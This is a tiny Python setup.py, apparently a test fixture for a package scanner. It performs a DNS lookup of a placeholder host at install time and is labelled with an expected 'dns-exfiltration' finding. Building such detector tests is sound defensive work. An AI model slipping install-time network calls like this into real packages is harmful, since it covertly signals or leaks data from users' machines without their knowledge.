import socket
from setuptools import setup

socket.gethostbyname("installed.toy.example.invalid")  # expect: source/dns-exfiltration install medium
setup(name="toy")
